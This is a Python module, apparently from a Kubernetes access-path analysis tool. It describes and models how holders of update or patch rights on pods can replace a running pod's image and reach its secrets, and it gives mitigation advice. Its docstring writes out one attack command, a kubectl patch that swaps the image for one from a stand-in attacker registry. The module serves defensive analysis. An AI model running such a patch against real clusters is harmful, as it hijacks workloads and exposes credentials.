r"""The image of a running pod can be changed in place: the kubelet restarts the container with the attacker's program,
which finds the volumes, variables and token of the one before.

## Needs

``update`` or ``patch`` on ``pods`` that exist. The image is one of the few fields that may change; volumes, variables
and the ServiceAccount may not, so the way reaches what the pod has, not everything of the namespace.

## Exploited

```console
$ kubectl patch pod web-0 -n shop --type=json \
    -p '[{"op": "replace", "path": "/spec/containers/0/image", "value": "attacker.example/peek"}]'
```

## Closed

People and programs change Deployments, not pods: almost none needs ``update`` or ``patch`` on ``pods``. Controllers
that label or annotate pods are the exception; run them as ServiceAccounts of their own.

## Demonstrated

The test control plane has no kubelet. The test has the API server accept the attacker's image in a pod that mounts
the Secret, and reads the Secret as the kubelet of its node does.

## References

- https://kubernetes.io/docs/concepts/workloads/pods/#pod-update-and-replacement
- https://kubehound.io/reference/attacks/POD_PATCH/
"""

from __future__ import annotations

from collections.abc import Iterator

from strongroom.access.arrivals import into_pods
from strongroom.access.way import Way
from strongroom.access.world import World
from strongroom.model.access import Step


def steps(world: World) -> Iterator[Step]:
    """Yield who puts another image into which pods."""
    for permission in world.holders("", "pods", "update", "patch"):
        yield from into_pods(world, WAY.id, permission, "update or patch pods")


WAY = Way("pods-patch", "puts another image into a running pod", ("T1610", "T1525"), steps)
